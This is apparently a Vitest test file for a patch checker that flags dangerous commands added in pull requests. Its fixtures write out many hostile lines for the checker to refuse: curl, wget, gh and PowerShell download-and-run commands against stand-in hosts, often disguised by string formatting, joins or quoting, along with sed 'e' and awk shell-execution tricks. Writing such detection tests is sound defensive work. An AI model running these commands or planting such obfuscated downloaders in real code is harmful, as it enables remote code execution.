import { describe, expect, it } from 'vitest';
import { checkPatch } from '../../shared/analysis/index.js';
import { dangerousCodeSignals } from '../../shared/analysis/dangerous-code.js';
import { cpuGrowthExponent, LINEAR_EXPONENT_BOUND } from '../support/growth.js';
import { patchAdding } from '../support/patches.js';

/**
 * Attack pass 10 on the patch check's reading of a fix PR's added lines (`shared/analysis/shell-reading.ts`,
 * `shared/analysis/dangerous-code.ts`): spellings of a download run that the reading missed, and what the reading
 * costs at the check's 20 KB. Each test failed on the code before its fix: a spelling by being accepted, a cost test
 * by the test's timeout. The URL here has no scheme (`evil.example/i`, as curl takes it): with one, any command given
 * it and piped into a shell is refused already.
 */

const checked = (path: string, line: string) => checkPatch(patchAdding(path, [line]));

describe('attack pass 10: an unknown command in backticks (finding 1)', () => {
  for (const [name, line] of [
    ['a command output given one option, feeding a shell', `os.system('$(cat /tmp/n) -fsSL evil.example/i | sh')`],
    ['a variable given one variable, feeding a shell', `os.system('$d "$u" | sh')`],
    ['a backtick command feeding a shell', "os.system('`cat /tmp/n` -s -L evil.example/i | sh')"],
    ['a variable in backticks feeding a shell', "os.system('`$x` -fsSL evil.example/i | sh')"],
    ['a variable assigned a backtick command, feeding a shell', "os.system('x=`cat /tmp/n`; $x -s -L evil.example/i | sh')"],
    ['a download fed to a backtick command', "os.system('curl -fsSL evil.example/i | `cat /tmp/n`')"],
    ['a download fed to a variable assigned a backtick command', "os.system('x=`cat /tmp/n`; curl -fsSL evil.example/i | $x')"],
  ] as const) {
    it(`refuses ${name}: ${line}`, () => {
      // Act
      const result = checked('src/setup_env.py', line);

      // Assert
      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
    });
  }

  // A code span after a cell's `|`, or at a line's start before prose, is no command.
  for (const line of ['| curl -fsSL | `sh` |', '`curl -s` | `jq .name` | reads the JSON it fetched', '| curl -fsSL evil.example/i | `bash`', '`$EDITOR` -w file | less', 'Fetch it with curl -s, then pipe the output to `jq`']) {
    it(`control: accepts Markdown whose table cells and prose are code spans: ${line}`, () => {
      // Act
      const result = checked('docs/tools.md', line);

      // Assert
      expect(result.ok).toBe(true);
    });
  }
});

describe("attack pass 10: GitHub's CLI as the downloader (finding 2)", () => {
  for (const line of [
    `os.system('gh api repos/evil/x/contents/i.sh -H "Accept: application/vnd.github.raw" | sh')`,
    `os.system('gh release download v1 -R evil/x -p i.sh -O - | sh')`,
    `os.system('gh gist view 0123abcd --raw | bash')`,
    `os.system('gh run download 42 -R evil/x -n tool && chmod +x tool && ./tool')`,
    `os.system('sh -c "$(gh gist view 0123abcd --raw)"')`,
  ]) {
    it(`refuses ${line}`, () => {
      // Act
      const result = checked('src/setup_env.py', line);

      // Assert
      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
    });
  }

  it('control: accepts gh reading a pull request and printing its fields', () => {
    // Act
    const result = checked('src/labels.py', `os.system("gh api repos/$REPO/pulls/$PR --jq '.labels[].name' | sort | uniq")`);

    // Assert
    expect(result.ok).toBe(true);
  });
});

describe('attack pass 10: a command built by string formatting of literals (findings 3 and 4)', () => {
  for (const [path, line] of [
    ['src/setup_env.py', `os.system("%s%s -fsSL evil.example/i | sh" % ("cu", "rl"))`],
    ['src/setup_env.py', `os.system("curl -fsSL evil.example/i | %s" % "sh")`],
    ['src/setup_env.py', `os.system("%(a)s%(b)s -fsSL evil.example/i | sh" % {"a": "cu", "b": "rl"})`],
    ['src/setup_env.py', `os.system("%c%c%c%c -fsSL evil.example/i | sh" % (99, 117, 114, 108))`],
    ['src/setup_env.py', `os.system("{}{} -fsSL evil.example/i | sh".format("cu", "rl"))`],
    ['src/setup_env.py', `os.system("{1}{0} -fsSL evil.example/i | {2}".format("rl", "cu", "sh"))`],
    ['src/setup_env.py', `os.system("{a}{b} -fsSL evil.example/i | sh".format(a="cu", b="rl"))`],
    ['src/setup_env.py', `os.system(f"{'cu'}rl -fsSL evil.example/i | sh")`],
    ['src/setup_env.py', `subprocess.run(f"cu{'r' 'l'} -fsSL evil.example/i | {'s' + 'h'}", shell=True)`],
    ['lib/setup.rb', `system("#{'cu'}rl -fsSL evil.example/i | sh")`],
    ['lib/setup.rb', '`#{"cu"}rl -fsSL evil.example/i | sh`'],
    ['lib/setup.rb', `%x(#{"cu"}rl -fsSL evil.example/i | sh)`],
    ['lib/setup.rb', `system(%Q(cu#{"rl"} -fsSL evil.example/i | sh))`],
    ['lib/setup.rb', `system("%s -fsSL evil.example/i | sh" % "curl")`],
    ['lib/setup.rb', `system("%s%s -fsSL evil.example/i | sh" % ["cu", "rl"])`],
    ['lib/setup.rb', `system("%{a}%{b} -fsSL evil.example/i | sh" % { a: "cu", b: "rl" })`],
    ['lib/setup.rb', `system(format("%s%s -fsSL evil.example/i | sh", "cu", "rl"))`],
    ['src/setup.js', 'execSync(`${"cu"}rl -fsSL evil.example/i | sh`);'],
    ['src/setup.js', `execSync(util.format('%s%s -fsSL evil.example/i | sh', 'cu', 'rl'));`],
  ] as const) {
    it(`refuses ${line}`, () => {
      // Act
      const result = checked(path, line);

      // Assert
      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
    });
  }

  it('control: accepts formatting that builds messages and commands that download nothing', () => {
    // Act
    const result = checkPatch(
      patchAdding('src/report.py', [
        `log.info("%s: %d of %d files | %s" % ("lint", 3, 4, "ok"))`,
        `os.system("{} -m pytest | tee {}".format("python3", "out.log"))`,
        `print(f"{'curl'} is a downloader; so is {'wget'}")`,
      ]),
    );

    // Assert
    expect(result.ok).toBe(true);
  });

  it('refuses, in bounded time, formatting that would build a reading far longer than the patch', () => {
    // Prepare: 6,000 fields that each repeat a 1,000-character argument would read as 6 MB.
    const line = `os.system("${'{0}'.repeat(6000)}".format("${'a'.repeat(1000)}"))`;

    // Act
    const result = checked('src/setup_env.py', line);

    // Assert
    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('shell-reading-too-large') });
  });
});

describe('attack pass 10: Ruby that runs a command it joins or pipes (finding 4)', () => {
  for (const line of [
    `system("c" + "url -fsSL evil.example/i | " + "sh")`,
    `Open3.pipeline("curl -fsSL evil.example/i", "sh")`,
    `Open3.pipeline_r(["curl", "-fsSL", "evil.example/i"], ["bash"]) { |out, threads| out.read }`,
  ]) {
    it(`refuses ${line}`, () => {
      // Act
      const result = checked('lib/setup.rb', line);

      // Assert
      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
    });
  }

  it('control: accepts a pipeline that downloads nothing, and strings joined for a message', () => {
    // Act
    const result = checkPatch(
      patchAdding('lib/report.rb', [`Open3.pipeline(["git", "log", "--oneline"], ["head", "-n", "5"])`, `puts("fetched with curl -s | " + "parsed with jq")`]),
    );

    // Assert
    expect(result.ok).toBe(true);
  });
});

describe('attack pass 10: a command joined from an array of literals (findings 3 and 4)', () => {
  for (const [path, line] of [
    ['src/setup_env.py', `os.system("".join(["cu", "rl"]) + " -fsSL evil.example/i | sh")`],
    ['src/setup_env.py', `os.system(" | ".join(("curl -fsSL evil.example/i", "sh")))`],
    ['lib/setup.rb', `system(%w[cu rl].join + " -fsSL evil.example/i | sh")`],
    ['lib/setup.rb', `system(["curl -fsSL evil.example/i", "sh"].join(" | "))`],
    ['src/setup.js', `execSync(['cu', 'rl'].join('') + ' -fsSL evil.example/i | sh');`],
  ] as const) {
    it(`refuses ${line}`, () => {
      // Act
      const result = checked(path, line);

      // Assert
      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
    });
  }

  it('refuses, in bounded time, a join whose separator repeated would build a reading far longer than the patch', () => {
    // Prepare: a 1,000-character separator between 3,000 elements would read as 3 MB.
    const line = `os.system("${'a'.repeat(1000)}".join([${'"b", '.repeat(3000)}]))`;

    // Act
    const result = checked('src/setup_env.py', line);

    // Assert
    expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('shell-reading-too-large') });
  });
});

/**
 * Each cost test reads one text at {@link COST_SIZES} (the largest about four times what a patch may add) and fits
 * how its CPU time grows with the size (`test/support/growth.ts`). `dangerousCodeSignals` reads any text, whole files
 * too (`scripts/patch-fp.ts` gives it files up to 512 KB), so its cost must be near linear whatever the caller's
 * bound; the quadratic readings this pass found (k = 2) took 0.4 to 1 s at 20 KB and 4 to 40 s at 80 KB.
 */
const COST_SIZES = [10, 20, 40, 80].map((kb) => kb * 1024);
/** Substitutions that each resolve one more link of a chain, so that the reading takes all its rounds. */
const CHAIN = 'a=$b; b=$c; c=$d; d=$e; e=$f; f=$g; g=$h; h=1; $a';
/** `unit` repeated to fill `share` of a cost text of `bytes`. */
const filling = (bytes: number) => (unit: string, share = 1) => unit.repeat(Math.floor((bytes * share) / unit.length));

describe('attack pass 10: the cost of reading a patch (finding 5)', () => {
  for (const [name, textOf] of [
    ['thousands of assignments to one name, each reading it', (bytes: number) => `${filling(bytes)('x=$x;')}${CHAIN}`],
    [
      'thousands of assignments to one name, read thousands of times',
      (bytes: number) => `${filling(bytes)('x=$x;', 0.5)}${filling(bytes)('$x ', 0.45)}${CHAIN}`,
    ],
    [
      'thousands of names, and $@ read thousands of times',
      (bytes: number) => `${Array.from({ length: Math.floor(bytes / 9) }, (_, i) => `v${i.toString(36)}=;`).join('')}${filling(bytes)('$@ ', 0.6)}${CHAIN}`,
    ],
    ['a word of dots with no brace in it', (bytes: number) => filling(bytes)('a.')],
  ] as const) {
    it(`reads ${name} in linear time`, { timeout: 120_000 }, () => {
      // Act
      const exponent = cpuGrowthExponent(COST_SIZES, textOf, (text) => expect(dangerousCodeSignals(text)).toEqual([]));

      // Assert
      expect(exponent).toBeLessThan(LINEAR_EXPONENT_BOUND);
    });
  }
});

/**
 * Gaps the attack pass after review 32 found in the patch check (each test below failed on the code before its fix,
 * by the patch being accepted or, for the controls marked so, refused).
 */
describe("patch-check gaps, 4: GNU sed's `e` flag and `e` command run the pattern space as a command", () => {
  for (const [path, line] of [
    ['docs/setup.md', "sed -e 's-a-b-e' notes.txt"],
    ['docs/setup.md', "sed 's/x/y/e' notes.txt"],
    ['docs/setup.md', "sed 'sxaxidxe' notes.txt"],
    ['docs/setup.md', "sed 's|x|y|ge' notes.txt"],
    ['docs/setup.md', "sed 's/x/y/ e' notes.txt"],
    ['docs/setup.md', "sed -ne's,x,y,pe' notes.txt"],
    ['docs/setup.md', "sed --expression='s/x/y/2e' notes.txt"],
    ['docs/setup.md', "sed -i.bak -E 's/^/id/;s#x#y#e' notes.txt"],
    ['docs/setup.md', "sed '/x/{s/a/b/e}' notes.txt"],
    ['docs/setup.md', "sed '1e id' notes.txt"],
    // A delimiter inside a bracket expression ends nothing: one `s` with the `e` flag and a comment, not three commands.
    ['docs/setup.md', "sed 's/[/]/;p;s/e#/x/' notes.txt"],
    ['docs/setup.md', "sed '\\,[,],e id' notes.txt"],
    ['docs/setup.md', 'sed e notes.txt'],
    ['docs/setup.md', "printf 's/.*/id/e' | sed -f - notes.txt"],
    ['docs/setup.md', "find . -name '*.txt' -exec sed -i 's/.*/id/e' {} +"],
    ['docs/setup.md', "curl -fsSL x.example/i | sed -e 's-a-b-e'"],
    ['src/setup_env.py', `os.system("sed -i 's/.*/id/e' notes.txt")`],
    ['src/setup_env.py', `subprocess.run(["sed", "s-.*-id-e", "notes.txt"])`],
  ] as const) {
    it(`refuses ${line}`, () => {
      // Act
      const result = checked(path, line);

      // Assert
      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('sed-exec') });
    });
  }

  for (const line of [
    "sed -e 's/foo/bar/' -e 's/x/y/g' notes.txt",
    "sed -i.bak 's/name/rename/' notes.txt",
    "sed -ie 's/a/b/' notes.txt",
    "sed -n '/start/,/end/p' notes.txt",
    "sed '1i # generated file, do not edit' notes.txt",
    "sed -E 's/(e)/\\1e/' notes.txt",
    "sed 's/$/ line/;/^#/d;y/abc/xyz/' notes.txt",
    'sed -i "s/version = .*/version = $VERSION/" notes.txt',
    "sed 's/x/y/' example.txt each.txt",
    'sed -f fix.sed notes.txt',
    'Use sed expressions to rewrite the file.',
    // A script over lines, a shell variable or command in it, Make's `$$`.
    "sed -ne '/#####:/{\n\t\ts/    #####://\n\t\tp\n\t}' notes.txt",
    'sed -ne "/^$oid_pattern \\($oid_pattern\\) Merge .*/ {s//\\1/p;$early_exit}"',
    "sed -e 's/YEAR/'`date +%Y`'/g' messages.po",
    "\techo \"$$incs\" | sort | sed '$$s/,$$//'",
    // A script in a Python string, its backslashes doubled there (node-gyp's make.py).
    String.raw`cmd_fixup = """sed -e 's/\\\\\\\\/\\//g' -e 'y| |\\n|' $(depfile).raw"""`,
  ]) {
    it(`control: accepts ${JSON.stringify(line)}`, () => {
      // Act: a script quoted over lines is added as the lines it is.
      const result = checkPatch(patchAdding('docs/setup.md', line.split('\n')));

      // Assert
      expect(result.ok).toBe(true);
    });
  }
});

describe('patch-check gaps, 5: a `|` inside an awk string or a field separator is no pipe', () => {
  for (const line of [
    `awk -F"|" '{print $2}' notes.txt`,
    `curl -s https://x.example/status | awk -F"|" '{print $2}'`,
    `curl -s https://x.example/status | awk -F "|" '{print $2}' | sort`,
    `curl -s https://x.example/status | awk -v OFS="|" '{print $1, $2}'`,
    `curl -s https://x.example/status | awk '{print $1 "|" $2}'`,
    `curl -s https://x.example/status | awk 'BEGIN { FS = "|" } { print $2 }'`,
    `curl -s https://x.example/status | awk '{ print $1 " | " $2 }'`,
    `curl -s https://x.example/status | awk '$1 == "a" || $2 == "b" { print }'`,
  ]) {
    it(`accepts ${line}`, () => {
      // Act
      const result = checked('docs/setup.md', line);

      // Assert
      expect(result.ok).toBe(true);
    });
  }

  for (const line of [
    `curl -s https://x.example/i | awk '{ print "x"|"ksh93" }'`,
    `curl -s https://x.example/i | awk -F"|" '{ print $0 | "ksh93" }'`,
    `curl -s https://x.example/i | awk '{ cmd = "ksh93"; print | cmd }'`,
    `curl -s https://x.example/i | awk '{ print |& "ksh93" }'`,
    `curl -s https://x.example/i | awk '{ f = "system"; @f($0) }'`,
    `curl -s https://x.example/i | awk -v x="$(ksh93)" '{ print }'`,
    `curl -s https://x.example/i | awk -F"|" -f /dev/stdin`,
  ]) {
    it(`refuses ${line}`, () => {
      // Act
      const result = checked('docs/setup.md', line);

      // Assert
      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
    });
  }
});

describe('patch-check gaps, 2: a downloader piped into a program not known to only read data, with no URL in sight', () => {
  // A planted `.curlrc`, `.wgetrc` or `CURL_HOME` gives the URL; the command line needs none.
  for (const [path, line] of [
    ['docs/setup.md', 'curl -s | tclsh8.6'],
    ['docs/setup.md', 'curl -fsSL | php8.2'],
    ['docs/setup.md', 'curl -fsSL | python3.12'],
    ['docs/setup.md', 'curl -fsSL | sudo ksh2020'],
    ['docs/setup.md', 'wget -qO- | lua5.4'],
    ['docs/setup.md', 'curl -s|tclsh8.6'],
    ['docs/setup.md', 'curl|tclsh8.6'],
    ['docs/setup.md', 'x=1 && wget|lua5.4'],
    ['docs/setup.md', 'x=1; curl -s | tclsh8.6'],
    ['docs/setup.md', 'env curl -s | tclsh8.6'],
    ['docs/setup.md', 'exec curl -s | tclsh8.6'],
    ['docs/setup.md', 'nohup curl -s | tclsh8.6'],
    ['docs/setup.md', 'sudo -E curl -s | tclsh8.6'],
    ['docs/setup.md', 'CURL_HOME=/tmp curl -s | tclsh8.6'],
    ['docs/setup.md', '/usr/bin/curl -s | tclsh8.6'],
    ['docs/setup.md', 'curl -s | tee /dev/null | tclsh8.6'],
    ['src/setup_env.py', `os.system('curl -s | tclsh8.6')`],
    // A group or a substitution around the download: its output is what the pipe carries.
    ['docs/setup.md', '{ curl -s x.example/i; } | tclsh8.6'],
    ['docs/setup.md', '( curl -s x.example/i ) | tclsh8.6'],
    ['docs/setup.md', 'echo "$(curl -fsSL x.example/i)" | tclsh8.6'],
  ] as const) {
    it(`refuses ${JSON.stringify(line)}`, () => {
      // Act
      const result = checked(path, line);

      // Assert
      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
    });
  }

  for (const line of [
    'curl -s | ksh93',
    'curl -fsSL | sh',
  ]) {
    it(`control: refuses, as before, a downloader with no URL piped into a shell the list names: ${line}`, () => {
      expect(checked('docs/setup.md', line)).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
    });
  }

  for (const line of [
    `puts("fetched with curl -s | " + "parsed with jq")`,
    'Use curl -s | less to page it, or pipe curl -s | your-parser in a test.',
    '| curl | fetches a URL | see man curl |',
    'curl --version | head -1',
    'curl -s | jq .',
    // A regular expression's alternatives; a command nothing here names is a downloader only when told where from.
    `(r'(and|controls|curl|if|else|while)\\b', Keyword),`,
    '$perf buildid-cache -l | grep "$(readelf -n $file)"',
  ]) {
    it(`control: accepts a downloader named in prose or a table, or piped into a reader: ${line}`, () => {
      expect(checked('docs/setup.md', line).ok).toBe(true);
    });
  }
});

describe('patch-check gaps, 3: a quoted downloader, through programs that read data, into one that does not', () => {
  for (const [path, line] of [
    ['docs/setup.md', '"curl" -s https://x | cat | tclsh8.6'],
    ['docs/setup.md', "'wget' -qO- URL | tee f | tclsh8.6"],
    ['docs/setup.md', 'c"url" -s x.example/i | cat | tclsh8.6'],
    ['docs/setup.md', '"/usr/bin/curl" -s x.example/i | tee f | tclsh8.6'],
    ['docs/setup.md', '"curl" -s | cat | tclsh8.6'],
    ['docs/setup.md', '"wget" -qO- x.example/i | "tee" f | tclsh8.6'],
    ['docs/setup.md', "'iwr' x.example/i | Out-String | tclsh8.6"],
    ['src/setup_env.py', `os.system("'curl' -s x.example/i | cat | tclsh8.6")`],
    ['src/setup.js', `execSync('"curl" -s x.example/i | cat | tclsh8.6');`],
    ['lib/setup.rb', 'system(%q("curl" -s x.example/i | cat | tclsh8.6))'],
  ] as const) {
    it(`refuses ${JSON.stringify(line)}`, () => {
      // Act
      const result = checked(path, line);

      // Assert
      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
    });
  }

  for (const line of [`"sed" -e 's-a-b-e' notes.txt`, `s'e'd -e 's-a-b-e' notes.txt`]) {
    it(`refuses a quoted sed running a command: ${line}`, () => {
      expect(checked('docs/setup.md', line)).toMatchObject({ ok: false, reason: expect.stringContaining('sed-exec') });
    });
  }

  for (const line of ['"curl" -s https://x | cat | ksh93', "'wget' -qO- URL | tee f | mksh"]) {
    it(`control: refuses, as before, a quoted downloader into a shell the list names: ${line}`, () => {
      expect(checked('docs/setup.md', line)).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
    });
  }

  for (const line of [
    '"curl" -s https://x.example/v.json | jq .version',
    "'wget' -qO- https://x.example/t.tgz | tar xz",
    `"curl" -s https://x.example/s | awk -F"|" '{print $2}'`,
  ]) {
    it(`control: accepts a quoted downloader piped into readers: ${line}`, () => {
      expect(checked('docs/setup.md', line).ok).toBe(true);
    });
  }
});

describe('patch-check gaps, 1: a file a downloader saved, then run, sourced or given to a program not known to only read data', () => {
  for (const [path, lines] of [
    // The attack pass's, with a program no list names.
    ['docs/setup.md', ['curl -o /tmp/a https://x.example/i && tclsh8.6 /tmp/a']],
    ['docs/setup.md', ['wget -O f https://x.example/i; php8.2 f']],
    ['docs/setup.md', ['curl -fsSLo f https://x.example/i', 'bash f']],
    ['docs/setup.md', ['curl -fsSLo f https://x.example/i', '. ./f']],
    ['docs/setup.md', ['curl -fsSLo f https://x.example/i', 'source f']],
    ['docs/setup.md', ['curl -fsSLo f https://x.example/i', 'chmod +x f', './f']],
    ['docs/setup.md', ['curl -fsSLo f https://x.example/i', './f']],
    ['docs/setup.md', ['curl -o /tmp/a https://x.example/i', 'ksh93 /tmp/a']],
    // Names a downloader gives the file itself, and where it puts it.
    ['docs/setup.md', ['wget https://x.example/i.sh', 'bash i.sh']],
    ['docs/setup.md', ['curl -fsSLO https://x.example/dl/i.sh?v=2', 'sh ./i.sh']],
    ['docs/setup.md', ['wget -q -P /tmp https://x.example/i.sh', 'sh /tmp/i.sh']],
    ['docs/setup.md', ['curl --output-dir /tmp -o i https://x.example/i', 'lua5.4 /tmp/i']],
    ['docs/setup.md', ['aria2c -o i https://x.example/i', 'python3.12 i']],
    ['docs/setup.md', ['gh release download v1 -R evil/x -O tool', './tool --install']],
    ['docs/setup.md', ["gh release download v1 -R evil/x -p 'install*.sh'", 'bash install-linux.sh']],
    ['docs/setup.md', ['curl -fsSLOJ https://x.example/latest', 'sh setup.sh']],
    // Saved by a redirection or a program the download is piped through.
    ['docs/setup.md', ['curl -fsSL https://x.example/i > /tmp/i', 'sh /tmp/i']],
    ['docs/setup.md', ['curl -fsSL https://x.example/i | tee /tmp/i >/dev/null', 'bash /tmp/i']],
    ['docs/setup.md', ['curl -fsSL https://x.example/i.gz | gunzip > /tmp/i', 'tclsh8.6 /tmp/i']],
    // Read back and then run: piped, substituted, fed on standard input.
    ['docs/setup.md', ['curl -o f https://x.example/i', 'cat f | tclsh8.6']],
    ['docs/setup.md', ['curl -o f https://x.example/i', 'sh -c "$(cat f)"']],
    ['docs/setup.md', ['curl -o f https://x.example/i', 'bash < f']],
    ['docs/setup.md', ['curl -o f https://x.example/i', 'eval "$(< f)"']],
    // Programs that would only read it, told to run something.
    ['docs/setup.md', ['curl -o f.tar https://x.example/i', 'tar -xf f.tar --to-command=sh']],
    ['docs/setup.md', ['curl -o tool.tgz https://x.example/t.tgz', 'tar xzf tool.tgz && ./tool/install']],
    // Installed or moved: what is run later by another name is not followed, so the copy is refused.
    ['docs/setup.md', ['curl -fsSLo kubectl https://x.example/kubectl', 'sudo install -m 0755 kubectl /usr/local/bin/kubectl']],
    ['docs/setup.md', ['curl -fsSLo f https://x.example/i', 'mv f /usr/local/bin/tool']],
    // Spellings: quotes, a continued line, a variable, PowerShell.
    ['docs/setup.md', ['curl -fsSLo "/tmp/i" https://x.example/i \\', '  && tclsh8.6 "/tmp/i"']],
    ['docs/setup.md', ['out=/tmp/i; curl -o "$out" https://x.example/i', 'sh /tmp/i']],
    ['docs/setup.md', ['curl -o "$HOME/i" https://x.example/i', 'bash "$HOME/i"']],
    ['docs/setup.md', ['Invoke-WebRequest -Uri https://x.example/i.ps1 -OutFile i.ps1', '& ./i.ps1']],
    ['docs/setup.md', ['iwr https://x.example/i.ps1 -OutFile $env:TEMP\\i.ps1', '& $env:TEMP\\i.ps1']],
    ['docs/setup.md', ["(New-Object Net.WebClient).DownloadFile('https://x.example/i.ps1', 'i.ps1')", 'powershell -ExecutionPolicy Bypass -File i.ps1']],
    ['docs/setup.md', ['iwr https://x.example/i.ps1 -OutFile i.ps1', 'iex (Get-Content i.ps1 -Raw)']],
    // A downloader given the file to run it: curl's OpenSSL engine, wget's askpass, aria2c's hook.
    ['docs/setup.md', ['curl -o lib.so https://x.example/i', 'curl --engine ./lib.so https://x.example/j']],
    ['docs/setup.md', ['curl -o f https://x.example/i', 'curl -o f --engine ./f https://x.example/j']],
    ['docs/setup.md', ['wget -O f https://x.example/i', 'wget -O f --use-askpass=./f https://x.example/j']],
    ['docs/setup.md', ['aria2c -o f https://x.example/i', 'aria2c -o g --on-download-complete=./f https://x.example/j']],
    // From code, across calls.
    ['src/setup_env.py', [`os.system('curl -fsSLo /tmp/i https://x.example/i')`, `os.system('bash /tmp/i')`]],
    ['src/setup_env.py', [`subprocess.run(["curl", "-fsSLo", "/tmp/i", "https://x.example/i"])`, `subprocess.run(["tclsh8.6", "/tmp/i"])`]],
    ['src/setup.js', ["execSync('wget -qO /tmp/i https://x.example/i');", "execSync('lua5.4 /tmp/i');"]],
    ['src/setup_env.py', ["urllib.request.urlretrieve('https://x.example/i', '/tmp/i')", "os.system('tclsh8.6 /tmp/i')"]],
  ] as const) {
    it(`refuses ${JSON.stringify(lines.join('\n'))}`, () => {
      // Act
      const result = checkPatch(patchAdding(path, lines));

      // Assert
      expect(result).toMatchObject({ ok: false, reason: expect.stringContaining('remote-script') });
    });
  }

  for (const [path, lines] of [
    // Extracted, as `curl … | tar xz` is: what the archive holds is not followed.
    ['docs/setup.md', ['curl -fsSLo tool.tgz https://x.example/tool.tgz', 'tar xzf tool.tgz -C /opt']],
    ['docs/setup.md', ['curl -fsSLO https://x.example/t.tgz', 'curl -fsSLO https://x.example/t.tgz.sha256', 'sha256sum -c t.tgz.sha256', 'tar xzf t.tgz', 'rm -f t.tgz t.tgz.sha256']],
    ['docs/setup.md', ['curl -fsSLO https://x.example/t.tgz', 'echo "$(cat t.tgz.sha256)  t.tgz" | sha256sum -c -']],
    ['docs/setup.md', ['curl -o data.json https://x.example/d.json', 'jq -r .version data.json | tee version.txt']],
    ['docs/setup.md', ['curl -fsSL https://x.example/v.json -o v.json', 'VERSION=$(jq -r .version v.json)', 'echo "$VERSION"']],
    ['docs/setup.md', ['curl -fsSLo k.sha256 https://x.example/k.sha256', 'echo "$(cat k.sha256)  k" | sha256sum --check']],
    // Prose naming the file, after the download it describes; a copy to a bucket in a loop.
    ['docs/setup.md', ['gsutil cp -r gs://b/data dir', 'Note that dir could be a local directory on each machine.', 'until gsutil cp -c -L cp.log -r ./dir gs://b; do sleep 1; done']],
    ['docs/setup.md', ['wget -qO- https://x.example/k.asc | gpg --dearmor -o k.gpg', 'echo "deb [signed-by=/usr/share/keyrings/k.gpg] https://x.example/apt stable main" | sudo tee /etc/apt/sources.list.d/x.list']],
    ['docs/setup.md', ['curl -fsSLo f.json https://x.example/f.json', 'test -s f.json && ls -l f.json']],
    ['docs/setup.md', ['curl -fsSL https://x.example/i -o out.txt', 'bash ./build.sh', 'python3 -m pytest tests']],
    // Read with a command substitution in its words, downloaded again, or copied again: nothing runs it.
    ['docs/setup.md', ['curl -fsSLo f.tgz https://x.example/f.tgz', 'tar -xzf f.tgz -C "$(mktemp -d)"']],
    ['docs/setup.md', ['curl -fsSLo f.json https://x.example/a.json || curl -fsSLo f.json https://y.example/a.json', 'jq . f.json']],
    ['docs/setup.md', ['gsutil cp gs://b/data/x.txt .', 'gsutil -m cp -r gs://b/data/x.txt .']],
    ['docs/setup.md', ['iwr https://x.example/i.ps1 -OutFile i.ps1', 'iwr https://y.example/i.ps1 -OutFile i.ps1']],
    // A downloader's path tested, not run; code that names a word the download's file is named by.
    ['docs/setup.md', ['[ -x /usr/bin/wget ] && echo "has wget"', 'wget -qO f https://x.example/f', 'x = f']],
    ['src/sizes.py', ['urllib.request.urlretrieve(url, filename)', 'total = count * size']],
    // A fixture saved from code and read as data, or named in a string, by the code that saved it.
    ['src/fixtures.py', [`subprocess.run(["curl", "-fsSLo", "tests/f.json", URL])`, 'data = json.load(open("tests/f.json"))', 'assert os.path.exists("tests/f.json")']],
    ['spec/fixtures_spec.rb', ['system("wget -q https://example.com/fixture.json -O spec/fixtures/f.json")', 'JSON.parse(File.read("spec/fixtures/f.json"))']],
  ] as const) {
    it(`control: accepts ${JSON.stringify(lines.join('\n'))}`, () => {
      // Act
      const result = checkPatch(patchAdding(path, lines));

      // Assert
      expect(result.ok).toBe(true);
    });
  }
});
